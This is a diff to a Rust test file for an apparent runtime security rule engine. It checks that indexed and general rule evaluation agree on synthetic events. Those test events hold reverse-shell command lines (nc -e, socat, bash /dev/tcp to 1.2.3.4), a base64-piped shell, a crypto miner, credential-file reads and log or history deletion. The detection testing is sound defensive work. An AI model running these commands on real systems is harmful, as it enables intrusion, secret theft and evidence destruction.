@@ -133,7 +133,11 @@ fn holds(cond: &str, ev: &Event) -> bool {
     let t = table();
     let ctx = EvalCtx { procs: Some(&t), hostname: Some("node1"), event_num: 0 };
     let r = rs.get("r").unwrap();
-    r.matches(ev, &ctx)
+    let general = r.matches(ev, &ctx);
+    // The type index evaluates a specialized, reordered condition: same answer.
+    let indexed = rs.evaluate(ev, &ctx).count() == 1;
+    assert_eq!(general, indexed, "general and indexed evaluation differ for {cond:?}");
+    general
 }
 
 fn cond_error(cond: &str) -> String {
@@ -960,4 +964,135 @@ fn ruleset_is_send_and_sync() {
     check::<Ruleset>();
     check::<CompiledRule>();
     assert!(holds("not evt.num = 0 and evt.num >= 0", &open("/x", 0)));
+}
+
+/// The type index evaluates each rule specialized for the event type, with the
+/// shared cheap conjuncts hoisted into guards and string tests merged: on the
+/// default rules and events that trip them, it must agree with each rule's
+/// general condition.
+#[test]
+fn indexed_evaluation_agrees_with_general_conditions() {
+    let dir = concat!(env!("CARGO_MANIFEST_DIR"), "/../../rules");
+    let Ok(entries) = std::fs::read_dir(dir) else { return };
+    let mut files: Vec<_> = entries.filter_map(|e| e.ok()).map(|e| e.path()).collect();
+    files.retain(|p| p.extension().is_some_and(|x| x == "yaml"));
+    files.sort();
+    let mut b = RulesetBuilder::new();
+    for f in &files {
+        b.add_file(&f.display().to_string(), &std::fs::read_to_string(f).unwrap());
+    }
+    let rs = b.build().expect("default rules load");
+    let (wr, trunc, creat) = (1u32, 0o1000u32, 0o100u32);
+    let mut events = Vec::new();
+    for (path, flags) in [
+        ("/etc/shadow", 0),
+        ("/etc/sudoers.d/x", 0),
+        ("/root/.ssh/id_rsa", 0),
+        ("/srv/tls.key", 0),
+        ("/home/u/.aws/credentials", 0),
+        ("/proc/1/environ", 0),
+        ("/proc/self/environ", 0),
+        ("/usr/bin/ls", wr),
+        ("/usr/lib/__pycache__/x", wr),
+        ("/etc/passwd", wr | trunc),
+        ("/etc/cron.d/job", wr | creat),
+        ("/root/.ssh/authorized_keys", wr),
+        ("/root/.bashrc", wr),
+        ("/root/.bash_history", wr | trunc),
+        ("/var/log/syslog", wr | trunc),
+        ("/sys/fs/cgroup/release_agent", wr),
+        ("/proc/sys/kernel/core_pattern", wr),
+        ("/var/run/docker.sock", 2),
+        ("/lib/modules/x.ko", 0),
+        ("/tmp/plain", 0),
+        ("/tmp/plain", wr),
+    ] {
+        for comm in ["bash", "cat", "runc:[2:INIT]", "modprobe", "rtest"] {
+            let mut e = open(path, flags);
+            e.process.comm = comm.into();
+            events.push(e.clone());
+            e.ret = Some(-13);
+            events.push(e.clone());
+            e.container = None;
+            events.push(e);
+        }
+    }
+    for argv in [
+        &["sh"][..],
+        &["nc", "-e", "/bin/sh", "10.0.0.1", "4444"],
+        &["socat", "exec:sh", "tcp:1.2.3.4:5"],
+        &["xmrig", "-o", "stratum+tcp://pool:3333"],
+        &["apt-get", "install", "x"],
+        &["pip", "install", "x"],
+        &["sh", "-c", "echo aGk= | base64 -d | sh"],
+        &["bash", "-c", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1"],
+        &["nmap", "-sS", "10.0.0.0/24"],
+        &["ip", "addr"],
+        &["insmod", "x.ko"],
+        &["/tmp/dropper"],
+    ] {
+        let mut e = exec(argv[0].rsplit('/').next().unwrap(), argv);
+        events.push(e.clone());
+        if let EventKind::Exec { exe_from_memfd, tty, exe, .. } = &mut e.kind {
+            *exe_from_memfd = true;
+            *tty = None;
+            *exe = format!("/tmp/{}", argv[0]);
+        }
+        events.push(e.clone());
+        e.container = None;
+        events.push(e);
+    }
+    events.push(connect("1.2.3.4", 3333));
+    events.push(connect("127.0.0.1", 80));
+    events.push(base(
+        "connect",
+        EventKind::Connect {
+            fd: 3,
+            local: None,
+            remote: Some(SockAddr::Unix { path: "/run/docker.sock".into() }),
+        },
+    ));
+    events.push(base(
+        "mount",
+        EventKind::Mount {
+            source: "/dev/sda1".into(),
+            target: "/mnt".into(),
+            fstype: "ext4".into(),
+            flags: 0,
+        },
+    ));
+    events.push(base("unlinkat", EventKind::Unlink { path: "/root/.bash_history".into(), dir: false }));
+    events.push(base("unlink", EventKind::Unlink { path: "/var/log/auth.log".into(), dir: false }));
+    events.push(base(
+        "renameat",
+        EventKind::Rename { old_path: "/root/.zsh_history".into(), new_path: "/tmp/x".into() },
+    ));
+    events.push(base("fchmodat", EventKind::Chmod { path: "/tmp/x".into(), mode: 0o4755 }));
+    events.push(base("setuid", EventKind::Setuid { syscall: "setuid".into(), ids: vec![0] }));
+    events
+        .push(base("capset", EventKind::Capset { effective: u64::MAX, permitted: u64::MAX, inheritable: 0 }));
+    events.push(base("ptrace", EventKind::Ptrace { request: 16, target_pid: 1 }));
+    events.push(base("bpf", EventKind::Bpf { cmd: 5 }));
+    events.push(base("setns", EventKind::Setns { fd: 3, ns_path: Some("/proc/1/ns/mnt".into()), nstype: 0 }));
+    events.push(base("unshare", EventKind::Unshare { flags: 0x10000 }));
+    events.push(base(
+        "finit_module",
+        EventKind::ModuleLoad { syscall: "finit_module".into(), path: Some("/x.ko".into()) },
+    ));
+    let mut no_type = base("capable", EventKind::Capable { cap: 21, cap_name: String::new(), granted: true });
+    no_type.syscall = None;
+    events.push(no_type);
+
+    let t = table();
+    let mut matched = 0;
+    for (n, ev) in events.iter().enumerate() {
+        let ctx = EvalCtx { procs: Some(&t), hostname: Some("h"), event_num: n as u64 + 1 };
+        let indexed: Vec<&str> = rs.evaluate(ev, &ctx).map(|r| r.name.as_str()).collect();
+        let general: Vec<&str> =
+            rs.rules().iter().filter(|r| r.enabled && r.matches(ev, &ctx)).map(|r| r.name.as_str()).collect();
+        assert_eq!(indexed, general, "event {n}: {ev:?}");
+        matched += indexed.len();
+    }
+    // The events do trip rules (the comparison above is not vacuous).
+    assert!(matched >= 30, "only {matched} matches");
 }
